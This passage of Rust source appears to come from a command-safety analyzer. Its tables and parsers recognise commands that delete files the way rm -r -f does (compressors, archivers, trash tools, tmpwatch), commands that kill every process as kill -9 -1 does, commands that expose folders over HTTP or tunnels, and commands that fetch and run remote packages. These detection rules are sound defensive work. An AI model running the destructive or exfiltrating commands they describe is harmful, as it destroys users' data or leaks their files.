        unless: &[],
        valued: &[
            "-e",
            "--rsh",
            "-f",
            "--filter",
            "--exclude",
            "--include",
            "--exclude-from",
            "--include-from",
            "--files-from",
            "-T",
            "--temp-dir",
            "--partial-dir",
            "--backup-dir",
            "--suffix",
            "--compare-dest",
            "--copy-dest",
            "--link-dest",
            "--log-file",
            "--password-file",
            "--chmod",
            "--chown",
            "--port",
            "--timeout",
            "--bwlimit",
            "-B",
            "--block-size",
            "--max-size",
            "--min-size",
        ],
        as_rm: &["-r", "-f"],
        moved_to: Some(&[]),
        relative_to: &[],
    },
    // zip(1) `-m` and 7-Zip's `-sdel` delete the files once they are in the archive (the
    // archive's own name is taken for one too: a path more, never one fewer).
    Deleter {
        program: "zip",
        verbs: &[],
        when: &["-m", "--move"],
        unless: &[],
        valued: &["-b", "-n", "-t", "-tt", "-x", "-i", "-P", "-O", "--out"],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "7z",
        verbs: &[],
        when: &["-sdel"],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "7zz",
        verbs: &[],
        when: &["-sdel"],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    // Compressors replace each file by its compressed or decompressed form and remove it
    // (gzip(1), bzip2(1), xz(1), compress(1)), unless told to keep it or write to the
    // standard output, or only to test or list (pigz(1) as gzip); zstd(1) and lz4(1) keep it
    // unless `--rm`, brotli(1) unless `--rm` (`-j`), lzop(1) unless `-U`.
    Deleter {
        program: "gzip",
        verbs: &[],
        when: &[],
        unless: GZIP_KEEPS,
        valued: &["-S", "--suffix"],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "pigz",
        verbs: &[],
        when: &[],
        unless: GZIP_KEEPS,
        valued: &["-S", "--suffix"],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "gunzip",
        verbs: &[],
        when: &[],
        unless: GZIP_KEEPS,
        valued: &["-S", "--suffix"],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "unpigz",
        verbs: &[],
        when: &[],
        unless: GZIP_KEEPS,
        valued: &["-S", "--suffix"],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "bzip2",
        verbs: &[],
        when: &[],
        unless: BZIP2_KEEPS,
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "bunzip2",
        verbs: &[],
        when: &[],
        unless: BZIP2_KEEPS,
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "xz",
        verbs: &[],
        when: &[],
        unless: XZ_KEEPS,
        valued: XZ_VALUED,
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "unxz",
        verbs: &[],
        when: &[],
        unless: XZ_KEEPS,
        valued: XZ_VALUED,
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "lzma",
        verbs: &[],
        when: &[],
        unless: XZ_KEEPS,
        valued: XZ_VALUED,
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "unlzma",
        verbs: &[],
        when: &[],
        unless: XZ_KEEPS,
        valued: XZ_VALUED,
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "zstd",
        verbs: &[],
        when: &["--rm"],
        unless: ZSTD_KEEPS,
        valued: ZSTD_VALUED,
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "unzstd",
        verbs: &[],
        when: &["--rm"],
        unless: ZSTD_KEEPS,
        valued: ZSTD_VALUED,
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "lz4",
        verbs: &[],
        when: &["--rm"],
        unless: LZ4_KEEPS,
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "lz4c",
        verbs: &[],
        when: &["--rm"],
        unless: LZ4_KEEPS,
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "brotli",
        verbs: &[],
        when: &["-j", "--rm"],
        unless: BROTLI_KEEPS,
        valued: BROTLI_VALUED,
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "lzop",
        verbs: &[],
        when: &["-U", "--unlink", "--delete"],
        unless: LZOP_KEEPS,
        valued: LZOP_VALUED,
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "unlz4",
        verbs: &[],
        when: &["--rm"],
        unless: LZ4_KEEPS,
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "compress",
        verbs: &[],
        when: &[],
        unless: &["-c"],
        valued: &["-b"],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "uncompress",
        verbs: &[],
        when: &[],
        unless: &["-c"],
        valued: &["-b"],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    // Desktop file managers' command lines: `gio trash` (`gvfs-trash`), trash-cli's
    // `trash-put` (and `trash`, its name in other packages) and KDE's `kioclient rm` take a
    // folder whole; `gio remove` deletes one file or an empty folder; `gio move` is `mv`.
    Deleter {
        program: "gio",
        verbs: &["trash"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "gio",
        verbs: &["remove"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "gio",
        verbs: &["move"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &[],
        moved_to: Some(&[]),
        relative_to: &[],
    },
    Deleter {
        program: "gvfs-trash",
        verbs: &[],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "gvfs-rm",
        verbs: &[],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "trash-put",
        verbs: &[],
        when: &[],
        unless: &[],
        valued: &["--trash-dir"],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "trash",
        verbs: &[],
        when: &[],
        unless: &[],
        valued: &["--trash-dir"],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "kioclient",
        verbs: &["rm"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "kioclient",
        verbs: &["remove"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "kioclient5",
        verbs: &["rm"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "kioclient5",
        verbs: &["remove"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    // Secure deleters: rm that overwrites first.
    Deleter {
        program: "srm",
        verbs: &[],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    // tmpwatch(8), tmpreaper(8): `tmpwatch [OPTIONS] HOURS DIRS…` removes what has not been
    // used for HOURS below each folder, recursively (HOURS is read as an operand too,
    // a relative name, which deletes nothing of note).
    Deleter {
        program: "tmpwatch",
        verbs: &[],
        when: &[],
        unless: &["-t", "--test"],
        valued: &[
            "-x",
            "--exclude",
            "-X",
            "--exclude-pattern",
            "-U",
            "--exclude-user",
        ],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "tmpreaper",
        verbs: &[],
        when: &[],
        unless: &["-t", "--test"],
        valued: &["--protect"],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "wipe",
        verbs: &[],
        when: &[],
        unless: &[],
        valued: &["-c", "-l", "-x", "-X", "-S", "-T"],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
];

/// The `rm` command `program` with `args` stands for: `rm`, the row's flags (and the
/// program's own `-r`/`-f` where it takes them, as `cmake -E rm -rf`), `--`, then the
/// operands it deletes; `None` when it deletes nothing. `is_unknown` tells a word only
/// known at run time.
pub(crate) fn deletes_as_rm(
    program: &str,
    args: &[String],
    is_unknown: fn(&str) -> bool,
) -> Option<Vec<String>> {
    by_name::rows(DELETERS, &DELETERS_BY_NAME, program)
        .find_map(|row| row_as_rm(row, args, is_unknown))
        .or_else(|| option_deletes(program, args))
}

/// Programs that delete the folder an option names, whole, before they fill it anew: the
/// program and its options
const OPTION_DELETERS: &[(&str, &[&str])] = &[
    // pytest's docs, "How to use temporary directories and files": "The contents of the
    // directory [given to `--basetemp`] will be removed" before each run.
    ("pytest", &["--basetemp"]),
    ("py.test", &["--basetemp"]),
];

/// `rm -r -f -- DIR` for the folder an option of [`OPTION_DELETERS`] names, next or after
/// `=` (`pytest --basetemp=..`)
fn option_deletes(program: &str, args: &[String]) -> Option<Vec<String>> {
    let (_, options) = OPTION_DELETERS.iter().find(|(name, _)| *name == program)?;
    let mut words = args.iter().take_while(|arg| *arg != "--");
    let mut deleted = Vec::new();
    while let Some(arg) = words.next() {
        if options.contains(&arg.as_str()) {
            deleted.extend(words.next().cloned());
        } else if let Some(value) = options
            .iter()
            .find_map(|option| arg.strip_prefix(option)?.strip_prefix('='))
        {
            deleted.push(value.to_owned());
        }
    }
    if deleted.is_empty() {
        return None;
    }
    let mut rm = ["rm", "-r", "-f", "--"].map(str::to_owned).to_vec();
    rm.extend(deleted);
    Some(rm)
}

/// A program that picks processes by name, whose options that pick by user or group, given
/// without a name, pick every process of theirs (`pkill -u dev`, `pgrep -u dev`), as one
/// that picks all but a name's does (`pkill -v node`)
struct ProcessPicker {
    /// The program
    program: &'static str,
    /// The options that pick every process of a user or a group
    every: &'static [&'static str],
    /// The options that pick every process but those of the name
    inverse: &'static [&'static str],
    /// The options that narrow the pick to a few processes (a parent, a session, a
    /// terminal, the newest), which no user or group widens again
    narrowing: &'static [&'static str],
    /// Every option that takes the next word as its value, the picking ones among them, in
    /// two lists: those a family of programs shares, and the program's own
    valued: [&'static [&'static str]; 2],
    /// What picking every process does, as the command that says so: a killer signals
    /// every process the user may signal (`kill -9 -1`), a lister lists them (`pgrep .`)
    reads_as: &'static [&'static str],
}

/// procps-ng's `pgrep` and `pkill` share their options; pgrep(1), pkill(1)
const PGREP_NARROWING: &[&str] = &[
    "-P",
    "--parent",
    "-g",
    "--pgroup",
    "-s",
    "--session",
    "-t",
    "--terminal",
    "-F",
    "--pidfile",
    "-n",
    "--newest",
    "-o",
    "--oldest",
    "--ns",
];

/// The options `pgrep` and `pkill` share that take a value
const PROCPS_VALUED: &[&str] = &[
    "-u",
    "--euid",
    "-U",
    "--uid",
    "-g",
    "--pgroup",
    "-G",
    "--group",
    "-P",
    "--parent",
    "-s",
    "--session",
    "-t",
    "--terminal",
    "-F",
    "--pidfile",
    "-O",
    "--older",
    "-r",
    "--runstates",
    "--ns",
    "--nslist",
];

/// The programs whose pick of every process is read as what it does: as anyone but root,
/// that is every process the user may signal
const PROCESS_PICKERS: &[ProcessPicker] = &[
    ProcessPicker {
        program: "pkill",
        every: &["-u", "--euid", "-U", "--uid", "-G", "--group"],
        inverse: &["-v", "--inverse"],
        narrowing: PGREP_NARROWING,
        valued: [PROCPS_VALUED, &["--signal", "-q", "--queue"]],
        reads_as: &["kill", "-9", "-1"],
    },
    ProcessPicker {
        program: "pgrep",
        every: &["-u", "--euid", "-U", "--uid", "-G", "--group"],
        inverse: &["-v", "--inverse"],
        narrowing: PGREP_NARROWING,
        valued: [PROCPS_VALUED, &["-d", "--delimiter"]],
        reads_as: &["pgrep", "."],
    },
    // killall(1): `-v` is `--verbose` here, and nothing narrows a user's pick.
    ProcessPicker {
        program: "killall",
        every: &["-u", "--user"],
        inverse: &[],
        narrowing: &[],
        valued: [
            &[],
            &[
                "-u",
                "--user",
                "-s",
                "--signal",
                "-o",
                "--older-than",
                "-y",
                "--younger-than",
                "-n",
                "--ns",
                "-Z",
                "--context",
            ],
        ],
        reads_as: &["kill", "-9", "-1"],
    },
];

/// What `program` does when its words pick every process a user may signal: `kill -9 -1`
/// for a killer (`pkill -9 -u dev`, `killall -u dev`, `pkill -v node`), `pgrep .` for a
/// lister (`pgrep -u dev`), so that what reads its ids reads every process's: a user or
/// group option and no name, or all but a name's, with nothing narrowing the pick
pub(crate) fn picks_every_process(program: &str, args: &[String]) -> Option<Vec<String>> {
    let row = PROCESS_PICKERS.iter().find(|row| row.program == program)?;
    let (mut every, mut inverse, mut named) = (false, false, false);
    // Each option as getopt reads it: a cluster of short ones (`-lu dev`) one at a time, up
    // to one that takes a value, glued on (`-udev`) or the next word; a long one's after `=`.
    let mut options = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if arg == "--" {
            named |= words.next().is_some();
            break;
        }
        options.clear();
        if arg.starts_with("--") {
            match arg.split_once('=') {
                Some((name, _)) => options.push((name.to_owned(), false)),
                None => options.push((arg.clone(), true)),
            }
        } else if let Some(cluster) = arg.strip_prefix('-').filter(|cluster| !cluster.is_empty()) {
            for (at, letter) in cluster.char_indices() {
                let option = format!("-{letter}");
                let valued = row
                    .valued
                    .iter()
                    .any(|list| list.contains(&option.as_str()));
                let rest_empty = cluster.len() == at + letter.len_utf8();
                options.push((option, valued && rest_empty));
                if valued {
                    break;
                }
            }
        } else {
            named = true;
            continue;
        }
        for (option, takes_next) in &options {
            let option = option.as_str();
            if row.narrowing.contains(&option) {
                return None;
            }
            every |= row.every.contains(&option);
            inverse |= row.inverse.contains(&option);
            if *takes_next && row.valued.iter().any(|list| list.contains(&option)) {
                words.next();
            }
        }
    }
    (every && !named || inverse && named)
        .then(|| row.reads_as.iter().map(|word| (*word).to_owned()).collect())
}

/// [`DELETERS`] by the program of each row
static DELETERS_BY_NAME: ByName =
    LazyLock::new(|| by_name::index(DELETERS, |row| std::slice::from_ref(&row.program)));

/// Whether `program` has a row in [`DELETERS`], whatever its words
pub(crate) fn is_deleter(program: &str) -> bool {
    by_name::positions(&DELETERS_BY_NAME, program)
        .next()
        .is_some()
}

/// `path` as seen from `folder`, when one is given and the path is relative; a folder
/// only known at run time makes the path that folder, unknown as well
fn in_folder(folder: Option<&str>, path: &str, is_unknown: fn(&str) -> bool) -> String {
    match folder {
        Some(folder) if is_unknown(folder) => folder.to_owned(),
        Some(folder) if !path.starts_with(['/', '~']) && path != "-" && !is_unknown(path) => {
            format!("{}/{path}", folder.trim_end_matches('/'))
        }
        _ => path.to_owned(),
    }
}

/// [`deletes_as_rm`] for one row
fn row_as_rm(row: &Deleter, args: &[String], is_unknown: fn(&str) -> bool) -> Option<Vec<String>> {
    let rest: &[String] = match row.verbs {
        [] => args,
        verbs => {
            let at = args
                .windows(verbs.len())
                .position(|window| window.iter().zip(verbs).all(|(arg, verb)| arg == verb))?;
            args.get(at + verbs.len()..)?
        }
    };
    let is_short = |arg: &str| arg.len() > 1 && arg.starts_with('-') && !arg.starts_with("--");
    let has_short =
        |arg: &str, option: &str| option.len() == 2 && is_short(arg) && arg.contains(&option[1..]);
    let given = |options: &[&str]| {
        rest.iter().any(|arg| {
            options
                .iter()
                .any(|option| arg == option || has_short(arg, option))
        })
    };
    let deletes = (row.when.is_empty() || given(row.when)) && !given(row.unless);
    if !deletes {
        return None;
    }
    let mut words = vec!["rm".to_owned()];
    words.extend(row.as_rm.iter().map(|flag| (*flag).to_owned()));
    let recursive = rest
        .iter()
        .any(|arg| arg == "--recursive" || has_short(arg, "-r") || has_short(arg, "-R"));
    if recursive && !row.as_rm.contains(&"-r") {
        words.push("-r".to_owned());
    }
    words.push("--".to_owned());
    let operands_from = words.len();
    // The folder of a `relative_to` option, which operands after it are relative to.
    let mut folder: Option<String> = None;
    let mut rest_words = rest.iter().enumerate();
    while let Some((at, arg)) = rest_words.next() {
        // An option that takes a value, alone or ending a cluster (`-f A`, `-cf A`), or a
        // first word of `tar` without a dash (`czf A`).
        let takes_value = row.valued.iter().any(|option| {
            arg == option
                || (option.len() == 2 && is_short(arg) && arg.ends_with(&option[1..]))
                || (at == 0
                    && row.program == "tar"
                    && !arg.starts_with('-')
                    && option.len() == 2
                    && arg.ends_with(&option[1..]))
        });
        let folder_option = row.relative_to.iter().find_map(|option| {
            if arg == option {
                return Some(None);
            }
            arg.strip_prefix(option)?.strip_prefix('=').map(Some)
        });
        if let Some(glued) = folder_option {
            let value = glued.or_else(|| rest_words.next().map(|(_, value)| value.as_str()));
            if let Some(value) = value {
                folder = Some(in_folder(folder.as_deref(), value, is_unknown));
            }
        } else if takes_value {
            rest_words.next();
        } else if arg == "-" || !arg.starts_with('-') {
            words.push(in_folder(folder.as_deref(), arg, is_unknown));
        }
    }
    if let Some(options) = row.moved_to {
        let into_folder = rest.iter().any(|arg| {
            options
                .iter()
                .any(|option| arg == option || arg.starts_with(&format!("{option}=")))
        });
        if !into_folder {
            words.pop();
        }
    }
    (words.len() > operands_from).then_some(words)
}

/// How a program is told to serve files over HTTP
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Serving {
    /// Always: it is a file server
    Always,
    /// When given this option (`php -S ADDR`), alone or with its value glued
    Option(&'static str),
    /// When run as this module (`python3 -m http.server`)
    Module(&'static str),
    /// When Ruby's `un` library runs this command (`ruby -run -e httpd`)
    RubyUn(&'static str),
    /// Under this subcommand (`caddy file-server`)
    Subcommand(&'static str),
}

/// A program that serves a folder's files over HTTP to whoever asks: the folder's files
/// are sent off the machine as surely as by an upload
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct FileServer {
    /// The program, or the interpreter row's name (`python` for `python3`)
    pub(crate) program: &'static str,
    /// How it is told to serve
    pub(crate) serving: Serving,
    /// Options naming the folder served, the value next or after `=`
    pub(crate) folders: &'static [&'static str],
    /// Which of its operands (after what selects serving) are folders served
    pub(crate) operands: ServedOperands,
}

/// Which operands of a [`FileServer`] name a folder it serves
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum ServedOperands {
    /// None: only its options name one
    None,
    /// Every one
    Every,
    /// Those with this scheme, which is taken off (`ngrok http file:///srv`); any other
    /// operand is a port or an address, so without such an operand it serves no folder
    Scheme(&'static str),
    /// Absolute paths, as written (`tailscale serve /srv`, `~/site`, which bash makes
    /// absolute); any other operand is a port or an address, as for `Scheme`
    Absolute,
}

/// Every program that serves a folder, one row per spelling; without a folder named, it
/// serves its working folder
pub(crate) const FILE_SERVERS: &[FileServer] = &[
    FileServer {
        program: "php",
        serving: Serving::Option("-S"),
        folders: &["-t", "--docroot"],
        operands: ServedOperands::None,
    },
    FileServer {
        program: "python",
        serving: Serving::Module("http.server"),
        folders: &["-d", "--directory"],
        operands: ServedOperands::None,
    },
    FileServer {
        program: "python",
        serving: Serving::Module("SimpleHTTPServer"),
        folders: &[],
        operands: ServedOperands::None,
    },
    FileServer {
        program: "ruby",
        serving: Serving::RubyUn("httpd"),
        folders: &[],
        operands: ServedOperands::Every,
    },
    // busybox's `httpd -h HOME`.
    FileServer {
        program: "httpd",
        serving: Serving::Always,
        folders: &["-h"],
        operands: ServedOperands::None,
    },
    FileServer {
        program: "caddy",
        serving: Serving::Subcommand("file-server"),
        folders: &["-r", "--root"],
        operands: ServedOperands::None,
    },
    FileServer {
        program: "http-server",
        serving: Serving::Always,
        folders: &[],
        operands: ServedOperands::Every,
    },
    FileServer {
        program: "serve",
        serving: Serving::Always,
        folders: &[],
        operands: ServedOperands::Every,
    },
    FileServer {
        program: "miniserve",
        serving: Serving::Always,
        folders: &[],
        operands: ServedOperands::Every,
    },
    // ngrok's file server puts a folder on the internet (`ngrok http file:///srv`), as
    // Tailscale's `serve` and `funnel` do with a path.
    FileServer {
        program: "ngrok",
        serving: Serving::Subcommand("http"),
        folders: &[],
        operands: ServedOperands::Scheme("file://"),
    },
    FileServer {
        program: "tailscale",
        serving: Serving::Subcommand("serve"),
        folders: &[],
        operands: ServedOperands::Absolute,
    },
    FileServer {
        program: "tailscale",
        serving: Serving::Subcommand("funnel"),
        folders: &[],
        operands: ServedOperands::Absolute,
    },
    FileServer {
        program: "darkhttpd",
        serving: Serving::Always,
        folders: &[],
        operands: ServedOperands::Every,
    },
];

/// The folders `program` serves over HTTP (see [`FILE_SERVERS`]), `.` when it names none;
/// `None` when it serves none
pub(crate) fn served_folders(program: &str, args: &[String]) -> Option<Vec<String>> {
    // Asked of every command, and most programs serve no files.
    static NAMES: LazyLock<NameFilter> =
        LazyLock::new(|| FILE_SERVERS.iter().map(|row| row.program).collect());
    let name = interpreter(program).map_or(program, |row| row.name);
    if !NAMES.may_hold(name) {
        return None;
    }
    FILE_SERVERS
        .iter()
        .filter(|row| row.program == name)
        .find_map(|row| row_served_folders(row, args))
}

/// [`served_folders`] for one row
fn row_served_folders(row: &FileServer, args: &[String]) -> Option<Vec<String>> {
    let after = match row.serving {
        Serving::Always => 0,
        Serving::Option(option) => args.iter().position(|arg| arg.starts_with(option))? + 2,
        Serving::Module(module) => {
            let (named, rest) = python_module(args)?;
            (named == module).then(|| args.len().saturating_sub(rest.len()))?
        }
        Serving::RubyUn(command) => {
            if !args.iter().any(|arg| arg == "-run") {
                return None;
            }
            let code = args.iter().position(|arg| arg == "-e")? + 1;
            (args.get(code)? == command).then_some(code + 1)?
        }
        Serving::Subcommand(sub) => args.iter().position(|arg| arg == sub)? + 1,
    };
    let mut folders = Vec::new();
    let mut words = args.iter().enumerate();
    while let Some((at, arg)) = words.next() {
        if row.folders.contains(&arg.as_str()) {
            folders.extend(words.next().map(|(_, value)| value.clone()));
        } else if let Some(value) = row
            .folders
            .iter()
            .find_map(|option| arg.strip_prefix(option)?.strip_prefix('='))
        {
            folders.push(value.to_owned());
        } else if at >= after && !arg.starts_with('-') {
            match row.operands {
                ServedOperands::None => {}
                ServedOperands::Every => folders.push(arg.clone()),
                ServedOperands::Scheme(scheme) => {
                    folders.extend(arg.strip_prefix(scheme).map(str::to_owned));
                }
                ServedOperands::Absolute if arg.starts_with(['/', '~']) => {
                    folders.push(arg.clone());
                }
                ServedOperands::Absolute => {}
            }
        }
    }
    if folders.is_empty() {
        // A tunnel to a port serves no folder.
        if matches!(
            row.operands,
            ServedOperands::Scheme(_) | ServedOperands::Absolute
        ) {
            return None;
        }
        folders.push(".".to_owned());
    }
    Some(folders)
}

/// What else marks a package a runner fetches from elsewhere, besides a URL or a VCS spec
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Fetched {
    /// Nothing else
    Url,
    /// `OWNER/REPO`, npm's shorthand for a GitHub repository (not `@scope/name`)
    GitHubShorthand,
    /// `PATH@VERSION`, a module Go fetches at that version, outside the project's own
    Version,
}

/// A runner that fetches the package or module it runs (`npx`, `uvx`, `deno run`): given
/// a URL or a repository rather than a registry's name, it runs code from elsewhere
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct PackageRunner {
    /// The program
    pub(crate) program: &'static str,
    /// The words naming the runner after the program (`tool run` of `uv tool run`)
    pub(crate) subcommand: &'static [&'static str],
    /// Options whose value names a package too (`uvx --from SPEC`), next or after `=`
    pub(crate) specs: &'static [&'static str],
    /// The runner's other options that take the next word as their value
    pub(crate) valued: &'static [&'static str],
    /// What else marks a fetched package
    pub(crate) fetched: Fetched,
    /// Whether every operand names a package it installs, building it with the package's
    /// own code (`pip install a git+https://…`), not only the first, the one it runs
    pub(crate) installs: bool,
}

/// An installer's row: each package it is given is built, running the package's own code
/// (`setup.py`, npm's `install` scripts, a crate's `build.rs`), so one named by a URL or a
/// repository runs code from elsewhere; a registry's name is everyday
const fn installer(
    program: &'static str,
    subcommand: &'static [&'static str],
    specs: &'static [&'static str],
    valued: &'static [&'static str],
    fetched: Fetched,
) -> PackageRunner {
    PackageRunner {
        program,
        subcommand,
        specs,
        valued,
        fetched,
        installs: true,
    }
}

/// pip's install options: editable specs (`-e git+https://…`) and the files that list the
/// packages (`-r URL` installs what only the fetched list names), and its other valued
/// ones. An index or a links page (`--index-url`, `-f`) is a registry chosen by name: the
/// packages are still named ones, as PyTorch's own instructions install them.
const PIP_SPECS: &[&str] = &[
    "-e",
    "--editable",
    "-r",
    "--requirement",
    "-c",
    "--constraint",
];

/// pip's options whose file lists packages by name rather than being one
const PIP_LISTS: &[&str] = &["-r", "--requirement", "-c", "--constraint"];

/// Whether `spec` is given to an installer as a list of packages (`pip install -r FILE`):
/// a list the line writes names packages of the registry, installed as named ones are
pub(crate) fn lists_packages(args: &[String], spec: &str) -> bool {
    args.windows(2)
        .any(|pair| matches!(pair, [option, value] if PIP_LISTS.contains(&option.as_str()) && value == spec))
        || PIP_LISTS.iter().any(|option| {
            args.iter().any(|arg| {
                arg.strip_prefix(option)
                    .and_then(|rest| rest.strip_prefix('='))
                    == Some(spec)
            })
        })
}

/// The valued options of `poetry add`, `pdm add` and `pipenv install`
const PYTHON_ADD_VALUED: &[&str] = &[
    "-G",
    "--group",
    "-E",
    "--extras",
    "--source",
    "--python",
    "--platform",
    "--markers",
    "-C",
    "--directory",
    "-P",
    "--project",
    "-p",
    "-L",
    "--lockfile",
    "--index",
    "--pypi-mirror",
    "--categories",
];
const PIP_VALUED: &[&str] = &[
    "-r",
    "--requirement",
    "-c",
    "--constraint",
    "-i",
    "--index-url",
    "--extra-index-url",
    "-f",
    "--find-links",
    "-t",
    "--target",
    "--prefix",
    "--root",
    "--src",
    "--platform",
    "--python-version",
    "--implementation",
    "--abi",
    "--upgrade-strategy",
    "--cache-dir",
    "--log",
    "--proxy",
    "--retries",
    "--timeout",
    "--trusted-host",
    "--cert",
    "--client-cert",
    "-C",
    "--config-settings",
    "--no-binary",
    "--only-binary",
    "--report",
];
/// cargo-install(1): `--git URL` names the crate's repository
const CARGO_INSTALL_VALUED: &[&str] = &[
    "--version",
    "--vers",
    "--branch",
    "--tag",
    "--rev",
    "--path",
    "--root",
    "--registry",
    "--index",
    "-j",
    "--jobs",
    "--target",
    "--target-dir",
    "--profile",
    "-F",
    "--features",
    "--config",
    "-Z",
    "--bin",
    "--example",
    "--color",
];

/// The npm-family runners' options: a package spec, and the other valued ones
const NPM_SPECS: &[&str] = &["-p", "--package"];
const NPM_VALUED: &[&str] = &[
    "-c",
    "--call",
    "-w",
    "--workspace",
    "--registry",
    "--cache",
    "--prefix",
    "-C",
    "--dir",
    "--cwd",
];
/// uv's runner options (uv-tool-run(1))
const UV_SPECS: &[&str] = &[
    "--from",
    "--with",
    "-w",
    "--with-editable",
    "--with-requirements",
];
const UV_VALUED: &[&str] = &[
    "-p",
    "--python",
    "--index",
    "--default-index",
    "--index-url",
    "--extra-index-url",
    "-c",
    "--constraints",
];

/// Every runner that fetches what it runs, one row per spelling
pub(crate) const PACKAGE_RUNNERS: &[PackageRunner] = &[
    PackageRunner {
        program: "npx",
        subcommand: &[],
        specs: NPM_SPECS,
        valued: NPM_VALUED,
        fetched: Fetched::GitHubShorthand,
        installs: false,
    },
    PackageRunner {
        program: "npm",
        subcommand: &["exec"],
        specs: NPM_SPECS,
        valued: NPM_VALUED,
        fetched: Fetched::GitHubShorthand,
        installs: false,
    },
    PackageRunner {
        program: "npm",
        subcommand: &["x"],
        specs: NPM_SPECS,
        valued: NPM_VALUED,
        fetched: Fetched::GitHubShorthand,
        installs: false,
    },
    PackageRunner {
        program: "pnpx",
        subcommand: &[],
        specs: NPM_SPECS,
        valued: NPM_VALUED,
        fetched: Fetched::GitHubShorthand,
        installs: false,
    },
    PackageRunner {
        program: "pnpm",
        subcommand: &["dlx"],
        specs: NPM_SPECS,
        valued: NPM_VALUED,
        fetched: Fetched::GitHubShorthand,
        installs: false,
    },
    PackageRunner {
        program: "yarn",
        subcommand: &["dlx"],
        specs: NPM_SPECS,
        valued: NPM_VALUED,
        fetched: Fetched::GitHubShorthand,
        installs: false,
    },
    PackageRunner {
        program: "bunx",
        subcommand: &[],
        specs: NPM_SPECS,
        valued: NPM_VALUED,
        fetched: Fetched::GitHubShorthand,
        installs: false,
    },
    PackageRunner {
        program: "bun",
        subcommand: &["x"],
        specs: NPM_SPECS,
        valued: NPM_VALUED,
        fetched: Fetched::GitHubShorthand,
        installs: false,
    },
    PackageRunner {
        program: "deno",
        subcommand: &["run"],
        specs: &[],
        valued: &[
            "-c",
            "--config",
            "--import-map",
            "--lock",
            "--cert",
            "-L",
            "--log-level",
            "--location",
            "--seed",
        ],
        fetched: Fetched::Url,
        installs: false,
    },
    PackageRunner {
        program: "bun",
        subcommand: &["run"],
        specs: &[],
        valued: &["--cwd", "-c", "--config", "--env-file", "-r", "--preload"],
        fetched: Fetched::Url,
        installs: false,
    },
    PackageRunner {
        program: "uvx",
        subcommand: &[],
        specs: UV_SPECS,
        valued: UV_VALUED,
        fetched: Fetched::Url,
        installs: false,
    },
    PackageRunner {
        program: "uv",
        subcommand: &["tool", "run"],
        specs: UV_SPECS,
        valued: UV_VALUED,
        fetched: Fetched::Url,
        installs: false,
    },
    // `uv run URL` fetches a script and runs it; `uv run pytest` runs a project's tool.
    PackageRunner {
        program: "uv",
